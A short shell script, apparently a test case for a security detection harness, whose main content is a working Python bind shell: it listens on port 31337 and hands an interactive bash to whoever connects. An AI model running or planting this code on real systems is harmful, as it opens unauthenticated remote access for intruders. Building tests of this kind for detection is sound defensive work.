#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, pty, socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 31337)); s.listen(1)
c, _ = s.accept()
for i in 0, 1, 2: os.dup2(c.fileno(), i)
pty.spawn("/bin/bash")' &
wait_for /tmp/reached
took_place
